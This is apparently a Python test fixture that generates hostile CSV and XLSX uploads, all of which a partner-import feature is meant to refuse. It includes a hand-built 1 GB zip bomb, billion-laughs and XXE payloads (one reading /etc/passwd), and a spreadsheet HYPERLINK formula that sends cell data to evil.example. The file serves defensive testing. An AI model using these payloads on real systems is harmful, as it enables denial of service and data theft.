"""A corpus of hostile table files, generated (no binary fixtures; issue 21 §1, decision 0039).

Each entry is (name, file name, bytes): CSVs with NUL bytes, a million rows, a 10 MB cell,
Latin-1 and UTF-16 text; XLSX packages that are a ZIP bomb, state false sizes, carry macros,
expand entities (billion laughs) or fetch them (XXE), or are cut short; an empty file; a PDF
named .csv. A formula-looking cell (`FORMULA_CSV`) is not hostile to the reader: it is taken
as text, and must stay text when the site writes it back out.

The big ones are cheap to make: a repeated bytes object, and the bomb is one deflated block
repeated (see `xlsx_zip_bomb`), in a ZIP written by hand (`_zip`), which can also state a
size its part does not have.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from openpyxl import Workbook

PARTNER_HEADER = b"name,services,nature\n"
GIB = 2**30


def _workbook(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def plain_xlsx() -> bytes:
    """A harmless workbook to build the hostile ones from."""
    return _workbook([["name", "services", "nature"], ["Riverside Carers", "Respite", "contract"]])


def _rebuilt(source: bytes, *, replace: dict[str, bytes] = {}, add: dict[str, bytes] = {}):  # noqa: B006
    """The workbook's package with some parts replaced or added (deflated)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            new.writestr(entry.filename, replace.get(entry.filename, old.read(entry.filename)))
        for name, data in add.items():
            new.writestr(name, data)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def csv_with_nul() -> bytes:
    return PARTNER_HEADER + b"Riverside Carers,Resp\x00ite,contract\n"


def csv_million_rows() -> bytes:
    return PARTNER_HEADER + b"Riverside Carers,Respite,contract\n" * 1_000_000


def csv_ten_mb_cell() -> bytes:
    return PARTNER_HEADER + b"Riverside Carers," + b"x" * (10 * 2**20) + b",contract\n"


def csv_latin1() -> bytes:
    return "name,services,nature\nCaf\u00e9 Club,Advice at \u00a35,contract\n".encode("latin-1")


def csv_utf16() -> bytes:
    return "name,services,nature\nRiverside Carers,Respite,contract\n".encode("utf-16")


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def formula_csv() -> bytes:
    """Accepted: a formula is only text to us (and quoted when the site writes it out)."""
    return PARTNER_HEADER + f'"{FORMULA.replace(chr(34), chr(34) * 2)}",Respite,contract\n'.encode()


def _zip(parts: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP written by hand from (name, deflated bytes, CRC-32, size it states), so that a
    part can be stored as deflated already, or state a size it does not have."""
    out, directory = bytearray(), bytearray()
    for name, deflated, crc, size in parts:
        offset, encoded = len(out), name.encode()
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(deflated), size,
            len(encoded), 0,
        )  # fmt: skip
        out += encoded + deflated
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(deflated), size,
            len(encoded), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        directory += encoded
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(directory), len(out), 0
    )
    return bytes(out + directory + end)


def _deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _parts_but_sheet() -> list[tuple[str, bytes, int, int]]:
    with zipfile.ZipFile(io.BytesIO(plain_xlsx())) as package:
        return [
            (name, _deflated(data), zlib.crc32(data), len(data))
            for name in package.namelist()
            if name != SHEET
            for data in [package.read(name)]
        ]


@functools.cache
def xlsx_zip_bomb() -> bytes:
    """A workbook whose sheet1.xml is 1 GB of zeros, deflated to about a megabyte. Made in a
    moment: 16 MB of zeros deflated once, ended by a full flush (which resets the compressor),
    gives the same bytes every time, so the stream is that block 64 times over."""
    zeros = bytes(16 * 2**20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(GIB // len(zeros)):
        crc = zlib.crc32(zeros, crc)
    stream = block * (GIB // len(zeros)) + packer.flush(zlib.Z_FINISH)
    return _zip([*_parts_but_sheet(), (SHEET, stream, crc, GIB)])


@functools.cache
def xlsx_false_sizes() -> bytes:
    """A workbook whose sheet inflates to 64 MB but whose headers say 1 KB: a reader that
    trusts the stated size is fooled; zipfile stops at it and then finds the CRC wrong."""
    big = b"<x/>" + b" " * (64 * 2**20)
    return _zip([*_parts_but_sheet(), (SHEET, _deflated(big), zlib.crc32(big), 1024)])


def xlsx_with_macros() -> bytes:
    return _rebuilt(plain_xlsx(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)})


def xlsx_external_link() -> bytes:
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return _rebuilt(plain_xlsx(), add={"xl/externalLinks/externalLink1.xml": link})


_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""

_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>"""


def xlsx_billion_laughs() -> bytes:
    return _rebuilt(plain_xlsx(), replace={SHEET: _LAUGHS})


def xlsx_xxe() -> bytes:
    return _rebuilt(plain_xlsx(), replace={SHEET: _XXE})


def xlsx_lzma() -> bytes:
    """LZMA, which Excel never writes and zipfile inflates with no limit on what one read gives."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain_xlsx())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as new,
    ):
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return out.getvalue()


def xlsx_truncated() -> bytes:
    data = plain_xlsx()
    return data[: len(data) // 2]


def empty() -> bytes:
    return b""


def pdf_named_csv() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


# (id, file name as uploaded, maker): every one must be refused with a clear reason.
HOSTILE: list[tuple[str, str, object]] = [
    ("csv-nul", "partners.csv", csv_with_nul),
    ("csv-million-rows", "partners.csv", csv_million_rows),
    ("csv-10mb-cell", "partners.csv", csv_ten_mb_cell),
    ("csv-latin1", "partners.csv", csv_latin1),
    ("csv-utf16", "partners.csv", csv_utf16),
    ("xlsx-zip-bomb", "partners.xlsx", xlsx_zip_bomb),
    ("xlsx-false-sizes", "partners.xlsx", xlsx_false_sizes),
    ("xlsx-macros", "partners.xlsx", xlsx_with_macros),
    ("xlsx-external-link", "partners.xlsx", xlsx_external_link),
    ("xlsx-billion-laughs", "partners.xlsx", xlsx_billion_laughs),
    ("xlsx-xxe", "partners.xlsx", xlsx_xxe),
    ("xlsx-lzma", "partners.xlsx", xlsx_lzma),
    ("xlsx-truncated", "partners.xlsx", xlsx_truncated),
    ("empty", "partners.csv", empty),
    ("pdf-named-csv", "partners.csv", pdf_named_csv),
]
